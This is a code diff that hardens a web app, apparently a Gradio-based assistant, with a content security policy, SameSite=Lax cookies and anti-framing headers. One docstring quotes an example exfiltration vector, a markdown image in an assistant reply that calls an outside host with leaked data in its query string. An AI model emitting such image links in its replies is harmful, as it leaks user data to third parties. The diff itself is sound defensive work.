@@ -265,6 +265,74 @@ class EdgeGuard:
             self.throttle.failed(user, client)
 
 
+def content_security_policy(sources: Iterable[str] = ()) -> str:
+    """The page's content security policy: scripts, images, media, styles, fonts and
+    connections from the app's own origin only (and the operator's `page_sources`), framed
+    only by itself (issue 38: a reply's `![x](http://elsewhere/?d=...)` loaded by itself, and
+    another site could frame the page).
+
+    Inline scripts and `eval` stay allowed: Gradio's page is an inline configuration and its
+    `js=` handlers are compiled from strings. The microphone's AudioWorklet is a `blob:`."""
+    extra = "".join(f" {s}" for s in sources)
+    return "; ".join(
+        (
+            "default-src 'self'",
+            f"script-src 'self' 'unsafe-inline' 'unsafe-eval' blob:{extra}",
+            f"img-src 'self' data: blob:{extra}",
+            f"media-src 'self' data: blob:{extra}",
+            "style-src 'self' 'unsafe-inline'",
+            "font-src 'self' data:",
+            "connect-src 'self'",
+            "worker-src 'self' blob:",
+            "object-src 'none'",
+            "base-uri 'self'",
+            "form-action 'self'",
+            "frame-ancestors 'self'",
+        )
+    )
+
+
+def lax_cookie(header: bytes) -> bytes:
+    """A `Set-Cookie` value with `SameSite=Lax`: Gradio sets its login cookie `SameSite=None`
+    (for pages framed elsewhere), which sends it with another site's requests and frames."""
+    parts = header.split(b";")
+    kept = [p for p in parts[1:] if not p.strip().lower().startswith(b"samesite")]
+    return b";".join([parts[0], *kept, b" SameSite=Lax"])
+
+
+class PageHeaders:
+    """ASGI middleware: every HTTP response gets the content security policy and the headers
+    that keep it out of other sites' frames and guesses, and every cookie `SameSite=Lax`."""
+
+    def __init__(self, app: Any, sources: Iterable[str] = ()):
+        self.app = app
+        policy = content_security_policy(sources)
+        self.headers = [
+            (b"content-security-policy", policy.encode()),
+            (b"x-frame-options", b"SAMEORIGIN"),
+            (b"x-content-type-options", b"nosniff"),
+            (b"referrer-policy", b"same-origin"),
+        ]
+        self.names = {name for name, _ in self.headers}
+
+    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
+        if scope["type"] != "http":
+            await self.app(scope, receive, send)
+            return
+
+        async def send_with_headers(message: dict[str, Any]) -> None:
+            if message["type"] == "http.response.start":
+                headers = [
+                    (k, lax_cookie(v) if k.lower() == b"set-cookie" else v)
+                    for k, v in message.get("headers", [])
+                    if k.lower() not in self.names
+                ]
+                message = {**message, "headers": [*headers, *self.headers]}
+            await send(message)
+
+        await self.app(scope, receive, send_with_headers)
+
+
 def edge_middleware(settings: Settings, certificate_names: Iterable[str] = ()) -> list[Any]:
     """The middleware list for the app (FastAPI's `middleware=` argument). `certificate_names`:
     the names the served TLS certificate is for, served like ASSISTANT_ALLOWED_HOSTS."""
@@ -278,4 +346,5 @@ def edge_middleware(settings: Settings, certificate_names: Iterable[str] = ()) -
         wall=LoginWall(settings.login_max_age_s) if login else None,
         upload_max=settings.max_upload_bytes + MULTIPART_SLACK,
     )
-    return [guard]
+    # outermost: the refusals get the page's headers too
+    return [Middleware(PageHeaders, sources=settings.page_sources), guard]
